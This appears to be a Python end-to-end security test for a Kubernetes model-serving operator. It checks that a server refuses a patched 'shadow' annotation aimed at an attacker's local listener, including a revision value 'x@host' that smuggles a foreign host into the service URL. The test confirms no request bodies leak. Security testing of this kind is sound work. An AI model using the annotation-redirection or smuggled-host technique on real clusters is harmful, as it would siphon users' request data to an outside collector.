"""Finding 4 (issue 24): a stable server's shadow copies -- users' request bodies -- go only to its own
ModelDeployment's revision Services, whatever the pod annotation says. Played on the local cluster,
whose pods resolve Service names through its CoreDNS.

The attacker may patch pods in team-a's namespace and nothing else (a debugging role, a CI bot): they
point the ``modeldeploy.io/shadow`` annotation of team-a's stable pod at a listener of their own, while
the operator is stopped (so it does not restore the annotation at once; it does when it comes back).
Before the fix the server copied every request to the listener. Now it refuses the file --
``modelserver_shadow_refused_total{reason}`` counts it, nothing connects to the listener, and every user
request is answered.
"""

from __future__ import annotations

import json
import signal
import socket
import threading
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
from e2e.canary_support import md_status, noop_md
from localcluster.promtext import sample_sum
from localcluster.testing import Kube, wait_for

from .tenants import Author, account

MD_PATH = "/apis/modeldeploy.io/v1alpha1/namespaces/{ns}/modeldeployments"
SHADOW = "modeldeploy.io/shadow"
BODY = {"inputs": [{"name": "text", "datatype": "BYTES", "shape": [1], "data": ["card 4111 1111 1111 1111"]}]}


class Listener:
    """The attacker's collector, on the pod network's host end (the one outside address pods reach)."""

    def __init__(self, host: str) -> None:
        self.sock = socket.create_server((host, 0))
        self.sock.settimeout(0.2)
        self.url = f"http://{host}:{self.sock.getsockname()[1]}"
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


def serving_pod(kube: Kube, ns: str) -> dict[str, Any]:
    (pod,) = [
        p for p in kube.pods(ns, "modeldeploy.io/name=echo") if not p["metadata"].get("deletionTimestamp")
    ]
    return pod


def refused(pod_ip: str, reason: str) -> float:
    text = httpx.get(f"http://{pod_ip}:8080/metrics", timeout=5).text
    return sample_sum(text, "modelserver_shadow_refused_total", reason=reason)


def test_a_patched_shadow_annotation_cannot_send_a_stable_servers_copies_anywhere_else(
    kube: Kube, operator: Any, team_a: Author, tmp_path: Path
) -> None:
    assert operator is not None, "this test stops and resumes the operator process it started"
    ns = team_a.namespace
    pods_path = f"/api/v1/namespaces/{ns}/pods"
    may_patch_pods = [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list", "patch"]}]
    patcher = account(kube, ns, "pod-patcher", may_patch_pods, tmp_path, pods_path)
    team_a.api.create(MD_PATH.format(ns=ns), noop_md("echo", "1", "noop://?delay_ms=1", replicas=1))
    wait_for(lambda: md_status(kube, ns, "echo").get("phase") == "Healthy", timeout=90, what="echo healthy")
    pod = serving_pod(kube, ns)
    name, pod_ip = pod["metadata"]["name"], pod["status"]["podIP"]
    env = {e["name"]: e.get("value") for e in pod["spec"]["containers"][0]["env"]}
    assert env["MODELSERVER_SHADOW_SERVICE"] == f"http://echo-{{revision}}.{ns}.svc.cluster.local:8080"
    svc = kube.get(f"/api/v1/namespaces/{ns}/services/echo")
    assert svc is not None
    url = f"http://{svc['spec']['clusterIP']}:8080/v2/models/echo/infer"
    listener = Listener(urlsplit(kube.cluster.prometheus_url_pods).hostname or "")
    answered: list[int] = []

    def patch(value: str) -> None:
        patcher.request(
            "PATCH", f"{pods_path}/{name}", body={"metadata": {"annotations": {SHADOW: value}}},
            content_type="application/merge-patch+json",
        )  # fmt: skip

    def traffic(n: int) -> None:
        with httpx.Client(timeout=10) as c:
            for _ in range(n):
                answered.append(c.post(url, json=BODY).status_code)
                time.sleep(0.05)

    # Healthy is the operator's view; kube-proxy follows the EndpointSlice a moment later
    wait_for(lambda: httpx.post(url, json=BODY, timeout=5).status_code == 200, timeout=30, what="the Service")
    operator.send_signal(signal.SIGSTOP)
    try:
        # 1: any URL, with a well-formed revision
        patch(json.dumps({"url": listener.url, "revision": "r2", "sampleRate": 1.0}))
        wait_for(lambda: refused(pod_ip, "url") >= 1, timeout=30, what="the server refuses the foreign url")
        traffic(40)
        # 2: no url, a "revision" that would put a host of its own into the name
        host = urlsplit(listener.url).netloc
        patch(json.dumps({"revision": f"x@{host}", "sampleRate": 1.0}))
        wait_for(lambda: refused(pod_ip, "revision") >= 1, timeout=30, what="the server refuses the revision")
        traffic(40)
        time.sleep(2)  # a copy is sent after the answer: give any late one time to arrive
    finally:
        operator.send_signal(signal.SIGCONT)
        listener.close()
    assert listener.connections == 0, f"{listener.connections} connections reached the attacker's listener"
    assert answered == [200] * 80
    # the operator, back, takes the annotation off again (no shadow stage is running)
    wait_for(
        lambda: SHADOW not in (kube.get(f"{pods_path}/{name}") or {})["metadata"].get("annotations", {}),
        timeout=30,
        what="the operator restores the annotation",
    )
